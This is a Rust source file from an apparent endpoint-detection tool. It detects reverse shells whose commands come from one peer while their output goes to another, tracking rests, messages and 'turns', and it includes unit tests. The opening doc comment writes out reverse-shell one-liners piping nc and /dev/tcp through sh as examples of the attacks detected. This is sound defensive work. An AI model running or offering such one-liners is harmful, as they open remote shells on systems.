//! Shells that get their commands from one peer while their output goes to another one, or by
//! another protocol: `nc -u A P | sh | nc B P`, `tail -f file | sh >/dev/tcp/B/P`.
//!
//! A job whose log goes to a collector looks the same for a moment (`curl … | sh | nc`). But its
//! script comes as fast as it is read. So a shell is reported once it has taken *turns*:
//!
//! 1. It rests: it waits, has no child, and nothing passes either connection.
//! 2. Then the peer sends something.
//! 3. Then the shell starts a process, or something is sent to the other peer.
//!
//! Bytes of datagram sockets are not counted: there, the second step is not seen.

mod resting;

use panoptes_decoders::kernel::sock::TcpCounters;
use panoptes_tables::HashKey;

use super::graph::{ChannelEnd, Edges};
use super::pairs::{PAIR_ABSENT_SCANS, Pair, Pairs};
use super::pending::StateAge;
use super::rows::counters_of;
use super::search::Hop;
use super::servers::KnownProcesses;
use super::shell::Shell;
use super::turns::{has_started_after, newest_of};
use super::{ConnectionDirection, Reason, ReverseShells, ShellCandidate, ends_of};
use crate::detect::DetectorContext;
use crate::state::MachineState;
use crate::time::{Monotonic, Now, RealTime};
use crate::walk::{Index, ProcessRow, Snapshot};

/// Maximum number of pairs of shell and connection that are watched.
const WATCHED_MAX: usize = 24;
/// Number of turns after which a shell is reported.
const TURNS: u32 = 3;
/// The same if nothing was ever sent to a peer to which this machine connected. Clients ask.
const TURNS_UNASKED: u32 = 2;
/// For how long a shell rests before a turn. What comes in several pieces comes faster.
const REST_NS: i64 = 300_000_000;
/// For how long after a message the shell may do something.
const TURN_NS: i64 = 1_000_000_000;
/// The longest rest before a turn where messages are not counted.
const UNCOUNTED_REST_NS: i64 = 60_000_000_000;
const _: () = assert!(TURNS_UNASKED < TURNS && REST_NS < UNCOUNTED_REST_NS);
/// Largest number of bytes that acknowledge a message of the first peer in one scan: requests are
/// longer.
const ACKNOWLEDGEMENT_BYTES: u64 = 8;
/// The output that a message has caused is so many times as long as its acknowledgement.
const OUTPUT_PARTS: u64 = 16;
/// Maximum number of connections of one shell's input that are watched.
const INPUTS_MAX: usize = 4;

/// A shell and its two connections in one scan.
#[derive(Clone, Copy, Debug)]
struct Sight {
    /// Number of bytes that the first peer has sent, and that were sent to it.
    received: u64,
    asked: u64,
    /// Number of bytes that were sent to the second peer.
    sent: u64,
    /// The key of the connection to the second peer.
    out: u64,
    /// When the newest process of the scan was started.
    newest: u64,
    /// This machine's ports of the connections to both peers; 0 where bytes are not counted.
    ports: [u16; 2],
    /// Whether bytes of the first peer are counted.
    is_counted: bool,
    /// Whether others send something to the second peer, too; `None` if that was not checked.
    is_shared: Option<bool>,
}

/// What a shell does in one scan.
#[derive(Clone, Copy, Debug)]
struct ShellWork {
    /// Whether it has started a process since the last scan.
    has_started: bool,
    /// Whether it works or has a child.
    is_busy: bool,
}

#[derive(Clone, Copy, Debug)]
struct TwoPeersPairState {
    sight: Sight,
    /// When the shell was last seen to do something, and its peers to get or send something.
    rests_since: Monotonic,
    /// Number of scans since then.
    rest_scans: u32,
    /// When the message came that the shell has not answered yet.
    message: Option<Monotonic>,
    turns: u32,
    /// When the first turn was complete.
    since: RealTime,
    scans: u32,
}

/// All pairs that are watched.
#[derive(Debug)]
pub(super) struct TwoPeers(Pairs<TwoPeersPairState>);

impl TwoPeers {
    pub(super) fn new(key: HashKey) -> Self {
        Self(Pairs::new(WATCHED_MAX, key))
    }

    #[cfg(test)]
    pub(super) fn watched(&self) -> usize {
        self.0.list.len()
    }

    /// Forgets pairs that no recent scan has shown; see [`Pairs::begin_scan`].
    pub(super) fn begin_scan(&mut self, was_cut: Option<&Snapshot>) {
        self.0.begin_scan(was_cut, PAIR_ABSENT_SCANS);
    }

    /// Takes note of a pair in this scan. Returns since when it is to be reported, if it is.
    /// `work` tells what the shell does, and whether it has started a process after another one.
    fn observe(
        &mut self,
        (pair, group): (Pair, u64),
        sight: Sight,
        now: Now,
        work: impl FnOnce(u64) -> ShellWork,
    ) -> Option<(u32, StateAge)> {
        let Some((watched, is_first)) = self.0.see(pair) else {
            self.0.add(pair, group, TwoPeersPairState::new(sight, now));
            return None;
        };
        if is_first {
            watched.scans = watched.scans.saturating_add(1);
            watched.observe(sight, now, work);
        }
        Some((watched.turns, StateAge { since_ns: watched.since, scans: watched.scans }))
    }
}

impl TwoPeersPairState {
    fn new(sight: Sight, now: Now) -> Self {
        let (rests_since, since) = (now.monotonic, now.real);
        Self { sight, rests_since, rest_scans: 0, message: None, turns: 0, since, scans: 1 }
    }

    fn observe(&mut self, sight: Sight, now: Now, work: impl FnOnce(u64) -> ShellWork) {
        let before = core::mem::replace(&mut self.sight, sight);
        let work = work(before.newest);
        if sight.out != before.out {
            // What was sent to another peer tells nothing.
            *self = Self::new(sight, now);
            return;
        }
        if self.message.is_some_and(|message| now.monotonic.since(message) >= TURN_NS) {
            self.message = None;
        }
        let has_heard = sight.received > before.received;
        let asked = sight.asked.saturating_sub(before.asked);
        // A scan may leave the descriptors of the others.
        if before.is_shared == Some(true) {
            self.sight.is_shared = before.is_shared;
        }
        let is_own = self.sight.is_shared == Some(false);
        let sent = if is_own { sight.sent.saturating_sub(before.sent) } else { 0 };
        let has_acted = sent > 0 || work.has_started;
        // A request comes before its answer, and before what that causes.
        let acknowledges_output =
            self.message.is_some() && !has_heard && asked.saturating_mul(OUTPUT_PARTS) <= sent;
        let has_asked = asked > ACKNOWLEDGEMENT_BYTES && !acknowledges_output;
        let rested = now.monotonic.since(self.rests_since);
        let has_rested = self.rest_scans > 0 && rested >= REST_NS;
        if !sight.is_counted && rested > UNCOUNTED_REST_NS {
            self.turns = 0;
        }
        if has_asked {
            self.message = None;
        } else if has_rested && (has_heard || has_acted && !sight.is_counted) {
            self.message = Some(now.monotonic);
        } else if has_rested && has_acted && self.message.is_none() {
            // It does something by itself.
            self.turns = 0;
        }
        if has_acted && self.message.take().is_some() {
            self.since = if self.turns == 0 { now.real } else { self.since };
            self.turns = self.turns.saturating_add(1);
        }
        if has_heard || has_asked || has_acted || work.is_busy {
            (self.rests_since, self.rest_scans) = (now.monotonic, 0);
        } else {
            self.rest_scans = self.rest_scans.saturating_add(1);
        }
    }
}

impl ReverseShells {
    /// Watches an interpreter whose input comes from these peers and whose output goes to others,
    /// along these edges. The searches are those of [`Self::follow_over`].
    fn watch_two_peers(
        &mut self,
        context: &mut DetectorContext<'_>,
        state: &MachineState,
        shell: &Shell<'_>,
        (ends, edges): (&[ShellCandidate], Edges),
    ) {
        let Some((out_object, outward)) = self.other_peer(shell.snapshot) else { return };
        let is_over_files = edges == Edges::WithFiles;
        if ends.len() > INPUTS_MAX {
            self.count_cut(shell);
        }
        for &end in ends.iter().take(INPUTS_MAX) {
            let candidate = ShellCandidate { outward, out_object, ..end };
            if is_over_files && !self.are_ways_of_two_used(shell, &candidate) {
                continue;
            }
            self.watch_pair(context, state, shell, candidate);
        }
    }

    /// The nearest connection that output goes to and that this machine began, or the nearest
    /// socket whose bytes are not counted; of two that are as near, the connection. What input
    /// comes from, too, is the session of the terminal that both use: a login, and what its server
    /// connects to for the user.
    pub(super) fn other_peer(
        &self,
        snapshot: &Snapshot,
    ) -> Option<(ChannelEnd, Option<Index<Hop>>)> {
        let feeds = |object| ends_of(&self.inward).any(|(other, _)| other == object);
        let is_connection = |object| matches!(object, ChannelEnd::Connection(_));
        let is_outbound =
            |object| self.direction_of(snapshot, object) == ConnectionDirection::Outbound;
        let depth = |hop: Option<Index<Hop>>| self.outward.path(hop).count();
        let others = ends_of(&self.outward).filter(|&(object, _)| !feeds(object));
        let others = others.filter(|&(object, _)| !is_connection(object) || is_outbound(object));
        others.min_by_key(|&(object, hop)| (depth(hop), !is_connection(object)))
    }

    fn watch_pair(
        &mut self,
        context: &mut DetectorContext<'_>,
        state: &MachineState,
        shell: &Shell<'_>,
        mut candidate: ShellCandidate,
    ) {
        let snapshot = shell.snapshot;
        let Some(row) = snapshot.processes.at(shell.process) else { return };
        let objects = [candidate.object, candidate.out_object];
        let [Some(pair), Some(out)] = objects.map(|it| self.pair(shell, it)) else { return };
        let [counters, out_counters] = objects.map(|it| counters_of(snapshot, it));
        // A light scan may show another way only. The pair counts as one that it does not show.
        let before = self.two_peers.0.get(pair).filter(|_| snapshot.is_light);
        if before.is_some_and(|before| before.sight.out != out.key) {
            return;
        }
        // The counters of a connection may be unreadable for a moment.
        let is_unread = |(object, counters): (ChannelEnd, Option<TcpCounters>)| {
            matches!(object, ChannelEnd::Connection(_)) && counters.is_none()
        };
        let is_known = self.reported.has(snapshot, candidate.object);
        if is_known || objects.into_iter().zip([counters, out_counters]).any(is_unread) {
            return;
        }
        let sight = Sight {
            received: counters.map_or(0, |it| it.bytes_in),
            asked: counters.map_or(0, |it| it.bytes_out),
            sent: out_counters.map_or(0, |it| it.bytes_out),
            out: out.key,
            newest: newest_of(snapshot),
            ports: objects.map(|it| port_of(snapshot, it)),
            is_counted: counters.is_some(),
            is_shared: self.is_output_shared(shell, candidate.outward),
        };
        let who = (pair, snapshot.group_of(row));
        let work = |after| ShellWork {
            has_started: has_started_after(snapshot, row, after),
            is_busy: is_busy(snapshot, row),
        };
        let turns = self.two_peers.observe(who, sight, context.cx.now, work);
        if let Some(process_id) = self.two_peers.0.take_refused() {
            self.lost.add(1, Some(process_id));
        }
        let Some((turns, seen)) = turns else { return };
        let is_unasked = counters.is_some()
            && sight.asked == 0
            && candidate.direction == ConnectionDirection::Outbound
            && !self.leads_over_files(&candidate);
        if turns >= if is_unasked { TURNS_UNASKED } else { TURNS } {
            (candidate.reason, candidate.seen) = (Some(Reason::TwoPeers), seen);
            self.report_first(context, state, shell, &[candidate], &candidate);
        }
    }

    /// Watches an interpreter whose input comes over connections and whose output does not go back
    /// there. A peer that something exempts is not watched.
    pub(super) fn watch_one_foot(
        &mut self,
        context: &mut DetectorContext<'_>,
        state: &MachineState,
        shell: &Shell<'_>,
        edges: Edges,
    ) {
        let ends = self.unasked_ends(&KnownProcesses { cx: context.cx, state }, shell);
        if ends.is_empty() {
            return;
        }
        self.watch_two_peers(context, state, shell, (&ends, edges));
        if edges == Edges::Usual {
            let ends = ends.iter().map(|end| (end.object, end.inward));
            self.watch_lines(context, state, shell, ends);
        }
    }
}

/// This machine's port of a TCP connection; 0 for other objects.
fn port_of(snapshot: &Snapshot, object: ChannelEnd) -> u16 {
    let ChannelEnd::Connection(at) = object else { return 0 };
    snapshot.connections.at(at).map_or(0, |row| row.endpoints.source_port)
}

/// Whether a shell works or waits for a child.
fn is_busy(snapshot: &Snapshot, shell: &ProcessRow) -> bool {
    let works = snapshot.threads_of(shell).any(|thread| thread.task.is_at_work());
    let own = snapshot.leader(shell).map(|leader| leader.task.tgid);
    works || snapshot.processes.iter().any(|other| Some(other.parent_pid) == own)
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::state::process::ProcessKey;

    const SIGHT: Sight = Sight {
        received: 0,
        asked: 300,
        sent: 0,
        out: 1,
        newest: 1,
        ports: [0; 2],
        is_counted: true,
        is_shared: Some(false),
    };

    /// Scans that are a second apart do not show that a script comes in pieces.
    #[test]
    fn a_rest_that_no_scan_shows_is_none() {
        let turns = |rests: bool| {
            let (mut sight, mut now) = (SIGHT, Now::at(0));
            let mut watched = TwoPeersPairState::new(sight, now);
            for scan in 0..12 {
                now = now.after(1_000_000_000);
                if !rests || scan % 2 == 1 {
                    (sight.received, sight.sent) = (sight.received + 9, sight.sent + 9);
                }
                watched.observe(sight, now, |_| ShellWork { has_started: false, is_busy: false });
            }
            watched.turns
        };
        assert_eq!([turns(false), turns(true)], [0, 6]);
    }

    /// The largest number of turns in a minute of scans, of what each scan shows.
    fn most_turns(change: impl Fn(i64, &mut Sight)) -> u32 {
        let (mut sight, mut now) = (SIGHT, Now::at(0));
        let mut watched = TwoPeersPairState::new(sight, now);
        let steps = 1..240;
        let turns = steps.map(|step| {
            now = now.after(250_000_000);
            change(step * 250, &mut sight);
            watched.observe(sight, now, |_| ShellWork { has_started: false, is_busy: false });
            watched.turns
        });
        turns.max().unwrap()
    }

    #[test]
    fn what_is_sent_for_other_reasons_ends_the_row() {
        let is_heard = |milliseconds: i64| milliseconds % 2000 == 0;
        let hear = |sight: &mut Sight| sight.received += 9;
        let answers = most_turns(|at, sight| match at % 2000 {
            0 => hear(sight),
            500 => sight.sent += 9,
            _ => {}
        });
        assert!(answers > 20, "{answers}");
        let by_itself = most_turns(|at, sight| {
            if is_heard(at) {
                hear(sight);
            }
            if at % 5000 == 500 {
                sight.sent += 9;
            }
        });
        assert!(by_itself < TURNS_UNASKED, "{by_itself}");
        let others = most_turns(|at, sight| {
            if is_heard(at) {
                hear(sight);
                sight.out += 1;
            }
            if at % 2000 == 500 {
                sight.out += 1;
                sight.sent += 9;
            }
        });
        assert_eq!(others, 0);
    }

    /// The largest number of turns if each takes 2 s, of what happens at its milliseconds.
    fn most_turns_of(change: impl Fn(i64, &mut Sight)) -> u32 {
        most_turns(|at, sight| change(at % 2000, sight))
    }

    #[test]
    fn a_first_peer_that_is_told_what_has_come_was_not_asked() {
        let relay = |told: [(i64, u64); 2], output: u64| {
            most_turns_of(|at, sight| {
                if at == 0 {
                    sight.received += 9;
                }
                sight.asked += told.iter().filter(|it| it.0 == at).map(|it| it.1).sum::<u64>();
                sight.sent += if at == 500 { output } else { 0 };
            })
        };
        let never = (1, 0);
        assert!(relay([(0, 1), never], 9) > 20, "with the message");
        assert!(relay([(250, 1), never], 9) > 20, "after it");
        assert!(relay([(1750, 8), (500, 8)], 9) > 20, "before it");
        assert!(relay([(500, 60), never], 2000) > 20, "with the output");
        assert_eq!(relay([(0, 60), never], 2000), 0, "it asked: a database");
        assert_eq!(relay([(1750, 60), never], 2000), 0, "the same with a slow answer");
        assert_eq!(relay([(250, 60), never], 2000), 0, "it fetches what the message names");
    }

    #[test]
    fn a_shell_that_acts_beside_health_checks_takes_no_turns() {
        let turns = most_turns(|at, sight| {
            if at % 2000 == 0 {
                sight.asked += 6;
                sight.received += 9;
            }
            sight.sent += if at % 4500 == 0 { 9 } else { 0 };
        });
        assert!(turns < TURNS, "{turns}");
    }

    #[test]
    fn turns_by_datagrams_follow_each_other() {
        let turns = |pause: i64| {
            let mut now = Now::at(0);
            let mut sight = Sight { is_counted: false, ..SIGHT };
            let mut watched = TwoPeersPairState::new(sight, now);
            for _ in 0..4 {
                for _ in 0..4 {
                    now = now.after(pause / 4);
                    watched
                        .observe(sight, now, |_| ShellWork { has_started: false, is_busy: false });
                }
                sight.sent += 9;
                watched.observe(sight, now, |_| ShellWork { has_started: false, is_busy: false });
            }
            watched.turns
        };
        assert_eq!(turns(4_000_000_000), 4);
        assert!(turns(120_000_000_000) < TURNS_UNASKED);
    }

    #[test]
    fn shells_of_one_user_leave_room_for_those_of_others() {
        let mut shells = TwoPeers::new(HashKey::new(1));
        let pair = |process_id: u32| Pair {
            key: process_id.into(),
            process: ProcessKey { process_id, start_boottime: 1 },
            exec_id: 1,
        };
        let crowd = 1000..1000 + WATCHED_MAX as u32 + 9;
        let idle = |_| ShellWork { has_started: false, is_busy: false };
        for scan in 0..2 {
            shells.begin_scan(None);
            for process_id in crowd.clone() {
                shells.observe((pair(process_id), 1000), SIGHT, Now::at(scan), idle);
            }
            shells.observe((pair(7), 0), SIGHT, Now::at(scan), idle);
            assert!(shells.0.take_refused().is_some_and(|process_id| crowd.contains(&process_id)));
            assert!(shells.0.get(pair(7)).is_some());
        }
    }
}
